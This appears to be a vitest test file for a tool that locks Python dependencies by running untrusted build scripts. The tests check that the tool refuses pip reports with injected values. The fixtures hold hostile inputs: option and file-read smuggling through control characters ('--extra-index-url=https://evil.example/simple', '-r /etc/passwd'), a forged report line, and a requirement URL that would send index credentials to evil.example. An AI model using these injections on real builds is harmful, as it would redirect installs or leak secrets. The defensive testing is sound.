// The resolver runs a pull request's sdist build scripts: what it prints is read as untrusted, and
// what it is handed for pip is checked as pip will read it.

import { describe, expect, it } from 'vitest';
import type { DockerCli } from '../../../src/adapters/docker.js';
import { detect } from '../../../src/detect/index.js';
import type { EnvironmentSpec } from '../../../src/detect/spec.js';
import { isUserError, RefusedInput, type UserError } from '../../../src/errors.js';
import { lock } from '../../../src/lock/index.js';
import { lockFromPackages, lockFromReport, type PipReport, parseReport } from '../../../src/lock/report.js';
import { plan } from '../../../src/plan/index.js';
import type { BuildPlan } from '../../../src/plan/types.js';
import { baseOf } from '../../../src/plan/types.js';
import { memoryReader } from '../../../src/project/reader.js';
import { hasControlCharacters } from '../../../src/text.js';
import { BASE_DIGEST, inputsWith, irisPlan, irisReport, irisSpec, irisTree } from '../helpers.js';

const MARKER = 'ML_CONTAINER_RESOLVE_REPORT ';

/** A docker whose resolver run prints `stdout` and `stderr` and exits with `exitCode`; counts its runs. */
function resolverPrinting(stdout: string, stderr = '', exitCode = 0): DockerCli & { runs: number } {
  const docker = {
    runs: 0,
    async exec() {
      docker.runs += 1;
      return { exitCode, stdout, stderr, timedOut: false };
    },
  };
  return docker;
}

async function lockError(
  docker: DockerCli,
  buildPlan: BuildPlan = irisPlan(),
  spec: EnvironmentSpec = irisSpec(),
): Promise<UserError> {
  const caught = await lock(buildPlan, spec, '/w', docker, memoryReader(irisTree)).then(
    () => null,
    (error: unknown) => error,
  );
  if (!isUserError(caught)) throw new Error(`expected a UserError, got ${String(caught)}`);
  return caught;
}

/** The iris report with its first package changed. */
function reportWith(change: (item: PipReport['install'][number]) => void): PipReport {
  const report = irisReport();
  const [first] = report.install;
  if (!first) throw new Error('fixture is empty');
  change(first);
  return report;
}

describe('the resolver report line', () => {
  it('locks from the one report resolve.py printed', async () => {
    const docker = resolverPrinting(`noise\n${MARKER}${JSON.stringify(irisReport())}\n`);
    const locked = await lock(irisPlan(), irisSpec(), '/w', docker, memoryReader(irisTree));
    expect(locked.packages.map((pkg) => pkg.name)).toContain('scikit-learn');
  });

  it('refuses two reports: a build script printed one of its own', async () => {
    const forged = { ...irisReport(), install: [] };
    const docker = resolverPrinting(
      `${MARKER}${JSON.stringify(forged)}\nCollecting x\n${MARKER}${JSON.stringify(irisReport())}\n`,
    );
    const error = await lockError(docker);
    expect(error.phase).toBe('lock');
    expect(error.message).toMatch(/: the resolver printed 2 reports, where it prints one/);
  });

  it('refuses a report that is not JSON, or not shaped as pip writes it, quoting it short', async () => {
    expect((await lockError(resolverPrinting(`${MARKER}{"install": [\n`))).message).toBe(
      `the resolver's report is not JSON: '{"install": ['`,
    );
    const shapeless = await lockError(
      resolverPrinting(`${MARKER}{"install": [{"metadata": 1}], "x": "${'a'.repeat(400)}"}\n`),
    );
    expect(shapeless.message).toMatch(/^the resolver's report is not pip's installation report .*…'$/);
    expect(shapeless.message.length).toBeLessThan(300);
  });

  it('refuses an environment value with a control character, which the lock header quotes', () => {
    const report = irisReport();
    report.environment.python_full_version = '3.11.9\u001c--index-url=https://evil.example/simple';
    expect(() => parseReport(JSON.stringify(report))).toThrow(/not pip's installation report/);
  });
});

describe('each package of the report, before it goes into the lock', () => {
  it.each([
    [
      'a version with a line break to pip',
      (item: PipReport['install'][number]) => {
        item.metadata.version = '1.6.1\u001c--extra-index-url=https://evil.example/simple';
      },
      /^the resolver reported scikit-learn with version '1\.6\.1\\u001c--extra-index-url=https:\/\/evil\.example\/simple', which has whitespace or a control character$/,
    ],
    [
      'a version with a space',
      (item: PipReport['install'][number]) => {
        item.metadata.version = '1.6.1 --pre';
      },
      /^the resolver reported scikit-learn with version '1\.6\.1 --pre', which has whitespace/,
    ],
    [
      'a name that is no package name',
      (item: PipReport['install'][number]) => {
        item.metadata.name = 'scikit-learn\u0085-r /etc/passwd';
      },
      /^the resolver reported a package named 'scikit-learn\\u0085-r \/etc\/passwd', which is no package name$/,
    ],
    [
      'a URL with a line break',
      (item: PipReport['install'][number]) => {
        item.is_direct = true;
        item.download_info.url = 'https://files.example/x.whl\u2028-r /etc/passwd';
      },
      /^the resolver reported scikit-learn 1\.6\.1 from 'https:\/\/files\.example\/x\.whl\\u2028-r \/etc\/passwd', which is not an http\(s\) or file URL/,
    ],
    [
      'a URL that is not http(s) or file',
      (item: PipReport['install'][number]) => {
        item.is_direct = true;
        item.download_info.url = 'ftp://files.example/x.whl';
      },
      /^the resolver reported scikit-learn 1\.6\.1 from 'ftp:\/\/files\.example\/x\.whl', which is not an http\(s\) or file URL/,
    ],
    [
      'a sha256 that is not hex',
      (item: PipReport['install'][number]) => {
        item.download_info.archive_info = { hashes: { sha256: `${'a'.repeat(20)}\u001c` } };
      },
      /^the resolver reported scikit-learn 1\.6\.1 with a sha256 that is not 64 hex digits: 'a{20}\\u001c'$/,
    ],
    [
      'a legacy hash that is not hex',
      (item: PipReport['install'][number]) => {
        item.download_info.archive_info = { hash: 'sha256=zz --hash=sha256:00' };
      },
      /^the resolver reported scikit-learn 1\.6\.1 with a sha256 that is not 64 hex digits: 'zz --hash=sha256:00'$/,
    ],
  ])('refuses %s, naming the package', (_what, change, message) => {
    const report = reportWith(change);
    let caught: unknown;
    try {
      lockFromReport(report, ['h']);
    } catch (error) {
      caught = error;
    }
    expect(isUserError(caught)).toBe(true);
    const error = caught as UserError;
    expect(error.phase).toBe('lock');
    expect(error.message).toMatch(message);
    expect(hasControlCharacters(error.message)).toBe(false);
  });

  it('takes http(s) and file URLs, and hex in either case', () => {
    const report = reportWith((item) => {
      item.is_direct = true;
      item.download_info.url = 'file:///project/wheels/scikit_learn-1.6.1-py3-none-any.whl';
      item.download_info.archive_info = { hashes: { sha256: 'AB'.repeat(32) } };
    });
    const locked = lockFromReport(report, ['h']);
    expect(locked.text).toContain(
      `scikit-learn @ file:///project/wheels/scikit_learn-1.6.1-py3-none-any.whl --hash=sha256:${'ab'.repeat(32)}`,
    );
  });
});

describe('requirements.lock, as written', () => {
  it('is an internal error if a value with a control character reached it unchecked', () => {
    const write = () =>
      lockFromPackages(
        [
          {
            name: 'joblib',
            version: '1.6.0\u001c--extra-index-url=https://evil.example/simple',
            sha256: ['a'.repeat(64)],
            url: null,
          },
        ],
        ['h'],
        {},
      );
    expect(write).toThrow(
      /^requirements\.lock line 2 has a control character: 'joblib==1\.6\.0\\u001c--extra/,
    );
    try {
      write();
    } catch (error) {
      expect(isUserError(error)).toBe(false);
    }
  });
});

describe("pip's error in the message", () => {
  it('is cut short and escaped: pip quotes what it read, a file it should not have read among them', async () => {
    const environ = `HOME=/tmp\u0000PATH=/usr/bin\u0000${'X=1\u0000'.repeat(100)}ML_CONTAINER_INDEXES={"indexUrl":"https://ci:s3cret@pypi.example/simple"}`;
    const docker = resolverPrinting('', `ERROR: Invalid requirement: '${environ}'\n`, 1);
    const error = await lockError(docker);
    expect(error.message).toMatch(
      /^could not resolve requirements\.txt in .*: Invalid requirement: 'HOME=\/tmp\\u0000PATH/,
    );
    expect(error.message).toMatch(/…$/);
    expect(error.message).not.toContain('s3cret');
    expect(hasControlCharacters(error.message)).toBe(false);
  });
});

describe('the lines handed to the resolver from another manifest', () => {
  function pyprojectPlan(dependency: string): { plan: BuildPlan; spec: EnvironmentSpec } {
    const spec = detect(
      memoryReader({
        'pyproject.toml': `[project]\nname = "demo"\nversion = "0.1.0"\nrequires-python = ">=3.11"\ndependencies = [\n  "numpy",\n  ${JSON.stringify(dependency)},\n]\n`,
        'predict.py': 'print(1)\n',
      }),
    );
    const [first] = plan(spec, inputsWith(), { hasDockerignore: false });
    if (!first) throw new Error('no plan');
    baseOf(first).digest ??= BASE_DIGEST;
    return { plan: first, spec };
  }

  it.each([
    [
      `pkg @ https://evil.example/\${ML_CONTAINER_INDEXES}`,
      /^pip would expand \$\{ML_CONTAINER_INDEXES\} from the resolver's environment/,
    ],
    [
      'pkg @ https://evil.example/a\u0085-r /etc/passwd',
      /^a requirement for pip must be one line without control characters: '/,
    ],
  ])('refuses %j at its line before the resolver runs', async (dependency, message) => {
    const { plan: buildPlan, spec } = pyprojectPlan(dependency);
    const docker = resolverPrinting(`${MARKER}${JSON.stringify(irisReport())}\n`);
    const error = await lockError(docker, buildPlan, spec);
    expect(error).toBeInstanceOf(RefusedInput);
    expect(error.message).toMatch(message);
    expect(error.source).toEqual({ file: 'pyproject.toml', line: 7 });
    expect(docker.runs).toBe(0);
  });

  it('hands the others over', async () => {
    const { plan: buildPlan, spec } = pyprojectPlan('pkg @ https://files.example/$HOME/pkg-1.0.tar.gz');
    const docker = resolverPrinting(`${MARKER}${JSON.stringify(irisReport())}\n`);
    await lock(buildPlan, spec, '/w', docker, memoryReader(irisTree));
    expect(docker.runs).toBe(1);
  });
});
